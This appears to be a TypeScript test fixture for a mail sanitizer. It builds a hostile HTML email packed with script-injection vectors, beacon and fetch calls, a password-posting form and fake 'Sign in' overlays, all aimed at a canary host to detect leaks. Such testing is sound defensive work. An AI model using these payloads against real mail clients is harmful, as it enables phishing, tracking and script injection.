/** What may be loaded for who asks for remote images. */
export const imagePaths = ['img', 'srcset', 'poster', 'svg-image', 'css-background', 'css-cursor', 'input-image']

/** Paths that a browser without any protection asks for as soon as it shows the mail; a control asserts that it does. */
export const eagerPaths = [
  ...imagePaths.filter((path) => path !== 'css-cursor'),
  'script',
  'style',
  'css-import',
  'font',
  'frame',
  'object',
  'embed',
  'prefetch',
  'preload',
  'fetch',
  'beacon',
  'base',
]

/**
 * Every way that we know of in which a mail could run, load or send something, or leave its frame. `canary` is where it would be
 * noticed; whatever runs says so in `owned`. Its links and buttons lie over each other's heads at known places.
 */
export const hostileMail = (canary: string) => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=${canary}/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="stylesheet" href="${canary}/style"><link rel="icon" href="${canary}/icon"><link rel="preconnect" href="${canary}">
<link rel="dns-prefetch" href="${canary}"><link rel="prefetch" href="${canary}/prefetch">
<link rel="preload" as="image" href="${canary}/preload"><link rel="modulepreload" href="${canary}/modulepreload">
<style>@import url("${canary}/css-import"); @font-face { font-family: far; src: url("${canary}/font") }
body { background: url("${canary}/css-background"); font-family: far; cursor: url("${canary}/css-cursor"), auto }
.cover { position: fixed; inset: -2000px; z-index: 2147483647; background: #fffe }
.place { position: fixed; left: 20px; width: 200px; height: 30px; z-index: 2147483647 }</style>
<script>for (const w of [window, parent, top]) { try { w.owned = 'inline' } catch {} }
fetch('${canary}/fetch', { mode: 'no-cors' }); navigator.sendBeacon('${canary}/beacon')</script>
<script src="${canary}/script"></script><script type="module">top.owned = 'module'</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${canary}/speculated"]}]}</script>
</head><body onload="top.owned = 'onload'">
<div class="cover">You have been signed out</div>
<a class="place" style="top: 20px" href="javascript:top.owned='link'">Unsubscribe</a>
<a class="place" style="top: 60px" href="${canary}/top" target="_top">Track it</a>
<a class="place" style="top: 100px" href="${canary}/blank" target="_blank" ping="${canary}/ping">Track it</a>
<a class="place" style="top: 140px" href="${canary}/here">Track it</a>
<form class="place" style="top: 180px" action="${canary}/form" method="post"><input name="password"><button>Sign in</button></form>
<button class="place" style="top: 220px" onclick="top.owned = 'click'">Sign in</button>
<img src="${canary}/img" alt=""><img src="data:," onerror="top.owned = 'onerror'" alt=""><img srcset="${canary}/srcset 1x" alt="">
<video poster="${canary}/poster"></video><audio src="${canary}/audio" autoplay></audio><input type="image" src="${canary}/input-image" alt="">
<svg onload="top.owned = 'svg'"><image href="${canary}/svg-image"/><script>top.owned = 'svg script'</script>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="top.owned = 'foreign'"></body></foreignObject></svg>
<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>top.owned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:top.owned='frame'"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed">
<details open ontoggle="top.owned = 'toggle'"><summary>More</summary></details><marquee onstart="top.owned = 'marquee'">x</marquee>
<input autofocus onfocus="top.owned = 'focus'">
<math><maction actiontype="statusline#${canary}" xlink:href="javascript:top.owned='math'">x</maction></math>
<base href="${canary}/"><img src="base" alt="">
</body></html>`
